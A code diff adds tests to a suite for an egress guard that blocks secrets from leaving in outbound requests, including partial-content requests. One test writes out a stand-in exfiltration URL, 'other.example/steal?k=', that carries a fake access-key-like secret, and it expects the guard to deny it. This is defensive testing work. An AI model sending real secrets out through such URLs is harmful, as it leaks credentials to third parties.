@@ -165,6 +165,26 @@ describe("nothing is sent", () => {
     await check(step("https://other.example/?it=else"));
   });
 
+  test("when the address holds it as a redirect would write it", async () => {
+    await using fixture = await setUp();
+    const value = "wJalrXUt/nFEMI+K7 MDENG/bPxRfiCY==";
+    const { check, fill } = await lendingOf(fixture, USUAL, value);
+    await fill(step("https://api.example.com/", { a: TOKEN }));
+    await assert.rejects(check(step(`https://other.example/steal?k=${value}`)), { code: "EGRESS_DENIED" });
+    await check(step(`https://other.example/steal?k=${value.slice(1)}`));
+  });
+
+  test("when a request with a token asks for a part of the answer", async () => {
+    await using fixture = await setUp();
+    const { fill } = await lendingOf(fixture);
+    for (const part of [{ range: "bytes=0-3" }, { "if-range": "x" }]) {
+      await assert.rejects(fill(step("https://api.example.com/", { a: TOKEN, ...part })), { code: "EGRESS_DENIED" });
+      const without = step("https://api.example.com/", { a: "b", ...part });
+      assert.equal(await fill(without), without);
+    }
+    assert.deepEqual(await about(fixture), []);
+  });
+
   test("when the secret is missing or too short to be hidden", async () => {
     await using fixture = await setUp();
     const asked = step("https://api.example.com/", { a: TOKEN });
